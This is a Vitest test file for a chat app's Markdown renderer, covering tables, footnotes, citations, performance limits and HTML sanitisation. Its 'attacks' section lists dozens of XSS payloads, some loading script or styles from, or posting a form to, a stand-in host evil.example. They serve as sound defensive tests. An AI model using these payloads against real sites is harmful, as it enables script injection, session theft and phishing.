import { describe, expect, test } from 'vitest';
import { blocksOf, renderMarkdown } from '#lib/markdown/render.ts';

/** Directions have a test of their own. */
const render = (markdown: string, sources = 0) =>
  renderMarkdown(markdown, 3, sources).replaceAll(' dir="auto"', '').trim();

describe('what the specification lists', () => {
  // spec: chat-14
  test('tables', () => {
    const html = render('| a | b |\n|---|:-:|\n| 1 | **2** |').replaceAll('\n', '');
    expect(html).toBe(
      '<table><thead><tr><th>a</th><th align="center">b</th></tr></thead><tbody><tr><td>1</td><td align="center"><strong>2</strong></td></tr></tbody></table>',
    );
  });

  // spec: chat-15
  test('strikethrough', () => {
    expect(render('~~old~~ new')).toBe('<p><del>old</del> new</p>');
  });

  // spec: chat-17
  test('task lists, whose boxes only show', () => {
    expect(render('- [ ] one\n- [x] two').match(/<input[^>]*>/g)).toEqual([
      '<input type="checkbox" disabled aria-label="to do" />',
      '<input type="checkbox" disabled aria-label="done" checked />',
    ]);
  });

  // spec: chat-18
  test('autolinks, which vouch for nothing', () => {
    const links = [
      ...render('https://example.com/a?b=1&c=2 www.example.org me@example.com').matchAll(
        /<a href="([^"]*)" rel="([^"]*)">/g,
      ),
    ];
    expect(links.map(([, href]) => href)).toEqual([
      'https://example.com/a?b=1&amp;c=2',
      'http://www.example.org',
      'mailto:me@example.com',
    ]);
    for (const [, , rel] of links) expect(rel).toContain('nofollow');
    for (const [, , rel] of links) expect(rel).toContain('noopener');
  });

  test('line breaks, emphasis, quotes, lists and code', () => {
    expect(render('a\nb')).toMatch(/^<p>a<br ?\/?>b<\/p>$/);
    expect(render('*a* **b**')).toBe('<p><em>a</em> <strong>b</strong></p>');
    expect(render('> a')).toContain('<blockquote>');
    expect(render('3. a\n4. b')).toContain('<ol start="3">');
    expect(render('```\n<b> & "c"\n```')).toBe('<pre tabindex="0"><code>&lt;b&gt; &amp; "c"\n</code></pre>');
  });

  test('headings, below those of the page', () => {
    expect(render('# a\n\n## b').match(/<h\d/g)).toEqual(['<h3', '<h4']);
  });
});

describe('footnotes', () => {
  const text = 'One[^a], two[^b], again[^a].\n\n[^a]: Note *A*\n[^b]: Note B';
  const ids = (html: string) => [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id!);

  // spec: chat-16
  test('lead to their note and back', () => {
    const html = render(text);
    expect(html).toContain('Note <em>A</em>');
    for (const [, target] of html.matchAll(/href="#([^"]*)"/g)) expect(ids(html)).toContain(target);
    expect(html.match(/href="#/g)!.length).toBeGreaterThanOrEqual(6);
  });

  test('have ids that are unique in a message and on a page of several', () => {
    const all = [3, 5, 'x'].flatMap((scope) => ids(renderMarkdown(text, scope)));
    expect(all.length).toBeGreaterThanOrEqual(3 * 5);
    expect(new Set(all).size).toBe(all.length);
  });

  test('no message can take an id of the page', () => {
    const html = render(
      '<a id="content" href="#x">a</a>\n\n<h2 id="main" class="sr-only">b</h2>\n\n<ul><li id="message-0">c</li></ul>',
    );
    expect(ids(html)).toEqual([]);
  });
});

describe('citations', () => {
  const cited = (markdown: string) => render(markdown, 2);
  const link = (number: number) => `<a href="#source-3-${number}" aria-label="Source ${number}">[${number}]</a>`;

  test('lead to their source', () => {
    expect(cited('A [1], *b [2]*. [1][2]')).toBe(`<p>A ${link(1)}, <em>b ${link(2)}</em>. ${link(1)}${link(2)}</p>`);
    expect(cited('- a [2]\n\n| [1] |\n|---|').match(/href="#source-3-\d"/g)).toEqual([
      'href="#source-3-2"',
      'href="#source-3-1"',
    ]);
    expect(cited('> a [1]\n\n# b [1]\n\nc[^1]\n\n[^1]: d [2]').match(/href="#source-/g)).toHaveLength(3);
  });

  test.for([
    ['numbers without a source', 'A [0], [3], [99], [01x], [].'],
    ['code', '`list[1]`\n\n```\nlist[2]\n```\n\n    list[1]'],
    ['escaped brackets', String.raw`\[1\]`],
    ['footnotes', 'a[^1]\n\n[^1]: b'],
    [
      'links and their labels',
      '[1](https://example.com) [a [1] b](https://example.com) [a][1] [2]\n\n[1]: https://example.com\n[2]: https://example.org',
    ],
  ])('%s do not', ([, markdown]) => expect(cited(markdown!)).not.toContain('#source-'));

  test('lead nowhere in a message that has no sources', () => expect(render('A [1].')).toBe('<p>A [1].</p>'));
});

describe('what costs far more than its length', () => {
  const wide = `${'|a'.repeat(1_000)}\n${'|-'.repeat(1_000)}\n`;
  const many = Array.from({ length: 500 }, (_, at) => at);
  test.for([
    ['a wide table of short rows', wide + 'a\n'.repeat(1_998)],
    ['the same in a quotation', `> ${wide.replace('\n', '\n> ')}${'> a\n'.repeat(990)}`],
    ['one long address in many places', `[a]: http://${'&'.repeat(4_000)}\n\n${'[a]'.repeat(1_300)}`],
    ['one long title in many places', `[a]: x "${'&'.repeat(4_000)}"\n\n${'[a]'.repeat(1_300)}`],
    ['one footnote in many places', `[^a]: b\n\n${'[^a]'.repeat(1_990)}`],
    [
      'many footnotes in many blocks',
      many
        .map((at) => `[^${at}]\n\n[^${at}]: a\n\n`)
        .join('')
        .slice(0, 8_000),
    ],
    ['lists within lists, and lines that go on', `${'- '.repeat(1_000)}===\n${'\n'.repeat(5_000)}`],
    [
      'quotations within quotations, and lines that go on',
      `${'>'.repeat(4_000)}@===\n${'`(<](a)  (<](a)\n'.repeat(240)}`,
    ],
    ['emphasis that never ends', 'é$__é'.repeat(1_600)],
    ['marks in a long word', '-_'.repeat(4_000)],
  ])('takes little time and space all the same: %s', ([, markdown]) => {
    const before = process.threadCpuUsage().user;
    const html = render(markdown!);
    expect(html.length).toBeLessThan(20 * markdown!.length);
    expect(blocksOf(markdown!).join('').length).toBeLessThan(20 * markdown!.length);
    expect((process.threadCpuUsage().user - before) / 1_000).toBeLessThan(500);
  });

  test('is shown as it was typed', () => {
    const markdown = `<b>${wide}${'a & b\n'.repeat(600)}`;
    expect(render(markdown)).toBe(
      `<p>${markdown.replaceAll('&', '&amp;').replace('<b>', '&lt;b&gt;').replaceAll('\n', '<br />')}</p>`,
    );
  });

  test.for([
    ['a large table', `|a|b|c|d|\n|-|-|-|-|\n${'|1|2|3|4|\n'.repeat(880)}`, 'td', 3_520],
    ['a table of short rows', `|a|b|c|d|\n|-|-|-|-|\n${'x\n'.repeat(20)}`, 'td', 80],
    [
      'lists of four levels',
      '- a thing\n  - a nested thing\n    - a third level\n      - and a fourth\n'.repeat(100),
      'li',
      400,
    ],
    [
      'a long paragraph of emphasis',
      'I *really* wonder, **truly**, about ~~this~~ snake_case_name 2 * 3. '.repeat(110),
      'strong',
      110,
    ],
    [
      'links to few addresses',
      `${'[a long text](https://example.com/a) and [b] '.repeat(170)}\n\n[b]: https://example.com/b`,
      'a',
      340,
    ],
    ['mail that was quoted five times', '> > > > > an old mail\n> > > > and again\n'.repeat(180), 'blockquote', 5],
    [
      'footnotes',
      `${many
        .slice(0, 80)
        .map((at) => `A claim about it[^${at}]. `)
        .join('')}\n\n${many
        .slice(0, 80)
        .map((at) => `[^${at}]: Its note, https://example.com/${at}`)
        .join('\n')}`,
      'sup',
      80,
    ],
  ] as const)('is not %s', ([, markdown, tag, count]) =>
    expect(render(markdown).split(`<${tag}`).length - 1).toBeGreaterThanOrEqual(count),
  );
});

test('half a character in a footnote is no failure', () => {
  expect(render('a[^\ud800]\n\n[^\ud800]: b')).toContain('<sup>');
});

describe('what looks like a tag and is none of HTML’s is text', () => {
  test.for([
    ['Dear <name>, I forgive you', '<p>Dear &lt;name&gt;, I forgive you</p>'],
    ['<your goal> & *mine*', '<p>&lt;your goal&gt; &amp; <em>mine</em></p>'],
    ['</over>', '<p>&lt;/over&gt;</p>'],
    ['- <Your-Habit>\n- b', '<ul>\n<li>&lt;Your-Habit&gt;</li>\n<li>b</li>\n</ul>'],
    ['<anchor>\nand <b>more</b>', '<p>&lt;anchor&gt;<br />and more</p>'],
    ['<name title="<script>alert(1)</script>">', '<p>&lt;name title=""&gt;</p>'],
    ['<div>\n<name>\n</div>', '&lt;name&gt;'],
    ['| <name> |\n|---|', '<table>\n<thead>\n<tr>\n<th>&lt;name&gt;</th>\n</tr>\n</thead>\n</table>'],
  ])('%s', ([markdown, html]) => expect(render(markdown!)).toBe(html));

  test.for([
    'one<br>two',
    'a <u>word</u>, <font color=red>another</font> and <span style="color: red">one more</span>',
    '<https://example.com> <me@example.com>',
    '1 <2 a<b x < y <3',
  ])('%s is as before', (markdown) => {
    expect(render(markdown)).not.toMatch(/&lt;(?!2|b x| y|3)/);
  });
});

test.for([
  '![alt](https://example.com/a.png)',
  '![alt][a]\n\n[a]: https://example.com/a.png',
  '[![alt](https://example.com/a.png)](https://example.com)',
  '<img src="https://example.com/a.png">',
  '<picture><source srcset="https://example.com/a.png"></picture>',
  '<svg><image href="https://example.com/a.png"/></svg>',
  '<video poster="https://example.com/a.png"></video>',
  '<table background="https://example.com/a.png"><tr><td>a</td></tr></table>',
])('no picture is fetched: %s', (markdown) => {
  expect(render(`before ${markdown}`)).not.toMatch(/<(img|picture|source|svg|image|video)|src|poster|background/i);
});

describe('attacks', () => {
  test.for([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>@import "//evil.example/x.css"</style>',
    '<form action="https://evil.example"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">a</button>',
    '<input type=text autofocus onfocus=alert(1) name=content>',
    '<details open ontoggle=alert(1)>a</details>',
    '<p style="position:fixed;inset:0">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)" target=_blank>a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="https://a.example" onclick="alert(1)">a</a>',
    '<a href=x onmouseover=alert(1)//>a',
    '[a](javascript:alert(1))',
    '[a](  javascript:alert`1` )',
    '[a](java\tscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](<javascript:alert(1)>)',
    '[a](https://a.example "x\\" onmouseover=\\"alert(1)")',
    '[a][b]\n\n[b]: javascript:alert(1)',
    '[a](//evil.example)',
    '<javascript:alert(1)>',
    '<https://a.example/"onmouseover="alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    '![x"onerror="alert(1)](x)',
    '`<script>alert(1)</script>`',
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
    '- [ ] <svg onload=alert(1)>',
    '# <svg onload=alert(1)>',
    'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    'x[^1]\n\n[^1]: [a](javascript:alert(1))',
    'x[^"><svg/onload=alert(1)>]\n\n[^"><svg/onload=alert(1)>]: note',
    'x[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: note',
    'x[^a"onmouseover="alert(1)]\n\n[^a"onmouseover="alert(1)]: note',
    "x[^a'onfocus='alert(1)'autofocus]\n\n[^a'onfocus='alert(1)'autofocus]: note",
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?><script>alert(1)</script>',
    '<x-widget onclick=alert(1)>a</x-widget>',
    '<p>a</p></p></div></li></ol></section></main><h1>Outside</h1>',
    '</li></ol></blockquote><section class="footnotes evil">a',
    '<table><tr><td></table></td></div>a',
    '<a href="https://a.example"><a href="javascript:alert(1)">a</a></a>',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<a\u00a0href="javascript:alert(1)">a</a>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<p id=a class="fixed inset-0">a</p>',
  ])('%j', (attack) => {
    for (const markdown of [attack, `before ${attack} after`, `> ${attack}`, `- ${attack}`])
      expect(findDanger(render(markdown))).toEqual([]);
  });

  test.for([
    '<b>a</b>',
    '<p onclick="x">',
    '<p title=x>',
    '<a href="javascript:x">a</a>',
    '<a href="//x">a</a>',
    '<p>',
    '</p>',
    '<input type="text" />',
    '<p class="x">a</p>',
    '<!-- a -->',
  ])('%j would be seen', (html) => {
    expect(findDanger(html)).not.toEqual([]);
  });
});

/** What could harm in a message's HTML: all that is not made of the few tags, attributes and addresses that it may have. */
function findDanger(html: string): string[] {
  const tag =
    /<(\/?)(p|br|hr|h[1-6]|blockquote|ul|ol|li|pre|code|em|strong|del|a|table|thead|tbody|tr|th|td|input|sup|section)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
  const allowed: Record<string, RegExp> = {
    href: /^(https?:\/\/|mailto:|#|\/(?!\/)|[^:/]*$)/,
    class: /^(footnotes|sr-only)$/,
    type: /^checkbox$/,
    tabindex: /^0$/,
    ...Object.fromEntries(
      ['id', 'rel', 'start', 'align', 'checked', 'disabled', 'aria-label', 'aria-describedby', 'data-footnotes'].map(
        (name) => [name, /^/],
      ),
    ),
  };
  const tags = [...html.matchAll(tag)].map(([, slash, name, attributes]) => ({
    slash,
    name: name!,
    attributes: attributes!,
  }));
  const attributes = tags.flatMap((one) => [...one.attributes.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)]);
  const strange = attributes.filter(([, name, value = '']) => !allowed[name!]?.test(value)).map(([whole]) => whole);
  // A tag that closes what it did not open would close what stands around the message on the page.
  const paired = tags.filter(({ name }) => !['br', 'hr', 'input'].includes(name));
  const unpaired = [...new Set(paired.map(({ name }) => name))].filter((name) => {
    const [opening, closing] = ['', '/'].map(
      (slash) => paired.filter((one) => one.name === name && one.slash === slash).length,
    );
    return opening !== closing;
  });
  const rest = html.replace(tag, '').match(/<.{0,40}/gs) ?? [];
  return [...strange, ...unpaired, ...rest];
}

test('the outermost blocks have the direction of their own text, whatever raw HTML says; code has none', () => {
  const markdown =
    'a[^1]\n\n- b\n\n  c\n- > d\n\n> e\n\n# f\n\n| g |\n|---|\n\n```\nh\n```\n\n<p dir="rtl">i</p>\n\n</p>\n\nj <em dir="rtl">k</em>\n\n[^1]: l';
  const html = renderMarkdown(markdown, 3);
  const directed = [...html.matchAll(/<(\w+)[^>]* dir="([^"]*)"/g)].map(
    ([, name, direction]) => `${name} ${direction}`,
  );
  const blocks = ['p', 'ul', 'blockquote', 'h3', 'table', 'p', 'p', 'p', 'h2', 'ol'];
  expect(directed).toEqual(blocks.map((name) => `${name} auto`));
});
